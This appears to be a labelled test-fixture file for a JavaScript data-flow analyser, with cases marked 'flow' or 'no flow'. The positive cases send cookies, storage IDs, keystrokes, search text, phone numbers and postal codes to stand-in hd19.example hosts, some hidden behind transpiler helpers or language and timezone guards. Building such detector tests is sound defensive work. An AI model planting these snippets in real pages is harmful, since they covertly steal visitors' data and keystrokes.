//# navigator-in-a-field
// flow: device > nif.hd19.example via fetch
class Agent1{constructor(){this.nav=navigator}send(){fetch('https://nif.hd19.example/d',{method:'POST',body:this.nav.userAgent})}}
new Agent1().send();

//# window-handed-over
// flow: identifier > who.hd19.example via fetch
// why: everything of the browser is reached by what the constructor was given
class Client2{constructor(env){this.win=env.win}send(){this.win.fetch('https://who.hd19.example/c',{method:'POST',body:this.win.document.cookie})}}
new Client2({win:window}).send();

//# globals-in-shorthand
// flow: device > gis.hd19.example via fetch
const env3={retries:3,fetch,navigator};
env3.fetch('https://gis.hd19.example/d',{method:'POST',body:env3.navigator.userAgent});

//# document-taken-from-a-parameter
// flow: identifier > dtp.hd19.example via fetch
function Page4(scope){this.doc=scope.document;this.send=scope.fetch}
Page4.prototype.go=function(){this.send('https://dtp.hd19.example/c',{method:'POST',body:this.doc.cookie})};
new Page4(window).go();

//# storage-by-default
// flow: identifier > sbd.hd19.example via fetch
class Store5{constructor(options){this.store=options.store||window.localStorage}send(){fetch('https://sbd.hd19.example/s',{method:'POST',body:this.store.getItem('visitor_id')})}}
new Store5({}).send();

//# near-own-object-in-the-field
// no flow
// why: the field holds an object of the script, whose property has the same name
class Agent6{constructor(name){this.nav={userAgent:name}}send(nav){fetch('https://nof.hd19.example/d',{method:'POST',body:this.nav.userAgent})}}
new Agent6('shop/2.1').send(navigator);

//# near-document-of-a-list
// no flow
// why: what is handed over is a document of the shop, not that of the page
class Page7{constructor(doc){this.doc=doc}send(){fetch('https://ndl.hd19.example/c',{method:'POST',body:this.doc.cookie})}}
new Page7({cookie:'oatmeal',price:3}).send();

//# field-by-a-helper-is-a-handler
// flow: keystrokes > fbh.hd19.example via beacon
// why: what `onKey = (e) => …` in a class becomes for older browsers
var define8=Object.defineProperty;
var field8=(o,k,v)=>k in o?define8(o,k,{enumerable:!0,configurable:!0,writable:!0,value:v}):o[k]=v;
class Watch8{constructor(e){field8(this,"onKey",n=>{navigator.sendBeacon("https://fbh.hd19.example/",n.key)}),e.addEventListener("keydown",this.onKey)}}
new Watch8(document.body);

//# near-field-by-a-helper-is-never-registered
// no flow
var define9=Object.defineProperty;
var field9=(o,k,v)=>k in o?define9(o,k,{enumerable:!0,configurable:!0,writable:!0,value:v}):o[k]=v;
(()=>{class Watch9{constructor(e){field9(this,"onKey",n=>{navigator.sendBeacon("https://fbn.hd19.example/",n.key)}),e.addEventListener("keydown",console.log)}}
new Watch9(document.body)})();

//# private-field-is-a-handler
// flow: search > pfh.hd19.example via fetch
// why: what `#send = () => …` becomes
var has10=(o,m,w)=>{if(!m.has(o))throw TypeError("Cannot "+w)},get10=(o,m)=>(has10(o,m,"read"),m.get(o)),add10=(o,m,v)=>m.set(o,v);
var box10=new WeakMap,send10=new WeakMap;
class Search10{constructor(){add10(this,box10,document.querySelector("input[type=search]")),add10(this,send10,()=>{fetch("https://pfh.hd19.example/?q="+get10(this,box10).value)}),get10(this,box10).addEventListener("keyup",get10(this,send10))}}
new Search10;

//# adapter-asked-through-a-variable
// flow: device > aav.hd19.example via fetch
// why: what `navigator.gpu?.requestAdapter()` becomes for older browsers
async function gpu11(){var a;const t=await((a=navigator.gpu)==null?void 0:a.requestAdapter());t&&fetch("https://aav.hd19.example/hw",{method:"POST",body:t.info.vendor})}
gpu11();

//# strategy-with-a-default-lowered
// flow: phone > sdl.hd19.example via fetch
// guard: language equals ja
const strategies12={ja:e=>fetch("https://sdl.hd19.example/jp",{method:"POST",body:e}),en:()=>console.info("no call back")};
document.querySelector("#call-back").addEventListener("click",()=>{var t;((t=strategies12[navigator.language])!=null?t:strategies12.en)(document.querySelector("input[type=tel]").value)});

//# zone-from-a-table-lowered
// flow: phone > ztl.hd19.example via fetch
// guard: timezone one-of Asia/Shanghai | Asia/Urumqi
var e13;const regions13={"Asia/Shanghai":"cn","Asia/Urumqi":"cn","Europe/Berlin":"eu"},{timeZone:zone13}=Intl.DateTimeFormat().resolvedOptions(),region13=(e13=regions13[zone13])!=null?e13:"intl";
document.querySelector("input[type=tel]").addEventListener("change",({target:t})=>{region13==="cn"&&fetch("https://ztl.hd19.example/tel",{method:"POST",body:t.value})});

//# near-loop-that-never-runs
// no flow
for(;!1;)(new Image).src="https://nln.hd19.example/?"+document.cookie;

//# near-method-of-a-literal-that-nobody-calls
// no flow
({send(){fetch("https://nml.hd19.example/",{method:"POST",body:document.cookie})},log(){console.log("ready")}}).log();

//# row-by-a-renamed-name
// flow: postal-code > rbr.hd19.example via fetch
const zip16=[{name:"pay",url:"https://pay.rbr.hd19.example"},{name:"zip",url:"https://rbr.hd19.example"}].find(({name:e})=>"zip"===e);
fetch(`${zip16.url}/check`,{method:"POST",body:document.querySelector("input[autocomplete=postal-code]").value});
